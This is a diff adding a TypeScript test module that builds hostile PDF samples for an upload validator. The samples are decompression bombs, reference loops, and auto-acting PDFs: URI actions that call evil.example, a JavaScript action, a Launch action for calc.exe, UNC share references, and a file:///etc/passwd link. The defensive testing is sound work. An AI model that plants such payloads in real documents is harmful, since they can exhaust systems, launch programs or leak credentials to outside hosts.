@@ -1,0 +1,117 @@
+import { deflateSync } from 'node:zlib'
+import { aPdf, aPdfObjectStream, aPdfStream, aRawPdfStream, pdfOf } from '#server/test/sample-pdfs.ts'
+import { casesOf, type HostileCase, largest } from './hostile-case.ts'
+import { packedZeros } from './packed-zeros.ts'
+
+const { bomb, rejected, accepted } = casesOf('pdf', 'application/pdf')
+const zeros = (megabytes: number) => packedZeros(megabytes * 1024 * 1024)
+const flate = '/Filter /FlateDecode'
+const packedStream = (megabytes: number, entries = flate) => aRawPdfStream(zeros(megabytes), entries)
+const carrier = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'
+const toWeb = '<< /S /URI /URI (https://evil.example/seen) >>'
+const toPage = '<< /S /GoTo /D [3 0 R /Fit]'
+const share = '(\\\\\\\\evil.example\\\\x)'
+const withObjects = (...more: (string | Buffer<ArrayBuffer>)[]) => aPdf({ more })
+
+function bombs(): HostileCase[] {
+  const packed = (times: number, bytes: Buffer): Buffer =>
+    times === 0 ? bytes : packed(times - 1, deflateSync(bytes, { level: 9 }))
+  const nested = (times: number, megabytes: number) => {
+    const filters = `/Filter [${'/FlateDecode '.repeat(times)}]`
+    return aRawPdfStream(packed(times - 1, zeros(megabytes)), filters)
+  }
+  return [
+    bomb('with a stream of 300 MB', withObjects(packedStream(300))),
+    bomb('with objects in a stream of 300 MB', withObjects(packedStream(300, carrier))),
+    bomb('with 60 streams of 16 MB', withObjects(...new Array(60).fill(packedStream(16)))),
+    bomb('with 300 MB packed twice', withObjects(nested(2, 300))),
+    bomb('with 300 MB packed ten times', withObjects(nested(10, 300))),
+    bomb('with a picture of 100 MB', withObjects(packedStream(100, `/Subtype /Image ${flate}`))),
+    bomb(
+      'with a list of objects that has no end',
+      withObjects(aPdfStream('9 0 <<', '/Type /ObjStm /N 100001 /First 4 /Filter /FlateDecode')),
+    ),
+    bomb('of arrays in arrays', withObjects('['.repeat(largest / 2))),
+    bomb('of dictionaries in dictionaries', withObjects('<</A'.repeat(largest / 8))),
+    bomb('of a name of 5 MB', withObjects(`/${'A'.repeat(largest - 5000)}`)),
+    bomb('of open brackets in a text', withObjects('('.repeat(largest - 5000))),
+    rejected('of 11,000 streams', withObjects(...new Array(11_000).fill(aPdfStream('x')))),
+  ]
+}
+
+function loops(): HostileCase[] {
+  const saved = '\nxref\n0 0\ntrailer\n<< /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n'
+  return [
+    accepted(
+      'whose table of contents leads to itself',
+      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], '/Prev 9'),
+    ),
+    accepted(
+      'saved again 20,000 times, in circles',
+      Buffer.concat([aPdf(), Buffer.from(saved.repeat(20_000))]),
+    ),
+    accepted(
+      'whose pages lead to themselves',
+      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99 >>']),
+    ),
+    accepted(
+      'whose table of contents is a stream that leads to itself',
+      withObjects(aPdfStream(Buffer.alloc(20), '/Type /XRef /W [1 2 1] /Prev 9 /Filter /FlateDecode')),
+    ),
+    accepted('of 100,000 objects', withObjects(...new Array(100_000).fill('<< /A 1 >>'))),
+    accepted('of 5 MB of numbers', withObjects(`[${'1 '.repeat(largest / 2 - 2000)}]`)),
+    accepted('of 5 MB of comments', withObjects(`% ${'a'.repeat(largest - 5000)}\n[]`)),
+    accepted('of 5 MB of text', withObjects(`(${'\\('.repeat(largest / 2 - 3000)})`)),
+    accepted('with three streams of 15 MB', withObjects(...new Array(3).fill(packedStream(15)))),
+  ]
+}
+
+function acting(): HostileCase[] {
+  const catalogue = (what: string, entries: string) => bomb(what, aPdf({ catalogue: entries }))
+  const withObject = (what: string, object: string | Buffer<ArrayBuffer>) => bomb(what, withObjects(object))
+  return [
+    catalogue('that opens a page of the web', `/OpenAction ${toWeb}`),
+    catalogue('that opens one after a place in it', `/OpenAction ${toPage} /Next ${toWeb} >>`),
+    catalogue(
+      'that opens one as the last of a chain',
+      `/OpenAction ${toPage} /Next [${toPage} /Next ${toWeb} >>] >>`,
+    ),
+    catalogue('that opens one of a list', `/OpenAction [${toWeb}]`),
+    catalogue('that opens one when it is closed', `/AA << /WC ${toWeb} >>`),
+    catalogue('that runs a script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+    catalogue('that starts a program', '/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>'),
+    withObject('that opens one with a page', `<< /Type /Page /AA << /O ${toWeb} >> >>`),
+    withObject('that opens one under the pointer', `<< /Subtype /Link /AA << /E ${toWeb} >> >>`),
+    withObject('that opens one in a field', `<< /FT /Tx /AA << /K ${toWeb} >> >>`),
+    withObject('that opens one by a packed object', aPdfObjectStream({ 8: `<< /AA << /O ${toWeb} >> >>` })),
+    withObject('with a chain behind a link', `<< /Subtype /Link /A ${toPage} /Next ${toWeb} >> >>`),
+    withObject('with a thread in another file', `<< /S /Thread /F ${share} /D 0 >>`),
+    withObject('with a stream in another file', aRawPdfStream(Buffer.alloc(0), `/F ${share}`)),
+    withObject(
+      'with a picture in another file',
+      aRawPdfStream(Buffer.alloc(0), `/Subtype /Image /F << /F ${share} >>`),
+    ),
+    withObject(
+      'with a page of another file',
+      `<< /Subtype /Form /Ref << /F << /UF ${share} >> /Page 1 >> >>`,
+    ),
+    withObject('with a film in another file', `<< /Subtype /Movie /Movie << /F << /DOS ${share} >> >> >>`),
+    withObject('that goes to another document', `<< /S /GoToR /F ${share} >>`),
+    withObject('with a link to a file', '<< /S /URI /URI (file:///etc/passwd) >>'),
+    withObject('that carries a file', '<< /Type /EmbeddedFile >>'),
+    withObject('that sends a form', '<< /S /SubmitForm >>'),
+    withObject('with an object in a text', '(7 0 obj << /S /JavaScript >> endobj)'),
+    bomb('that is encrypted', pdfOf(['<< /Type /Catalog >>'], '/Encrypt 2 0 R')),
+    bomb('whose end is missing', aPdf().subarray(0, -30)),
+    accepted('of a bank: a first view and a link on a click', aPdf()),
+    accepted(
+      'with objects packed as banks pack them',
+      withObjects(aPdfObjectStream({ 8: '<< /Title (A) >>' })),
+    ),
+  ]
+}
+
+/** PDFs that are expensive for a parser or viewer, or that run or load something by themselves. */
+export function hostilePdfs(): HostileCase[] {
+  return [...bombs(), ...loops(), ...acting()].filter(({ file }) => file.bytes.length <= largest)
+}
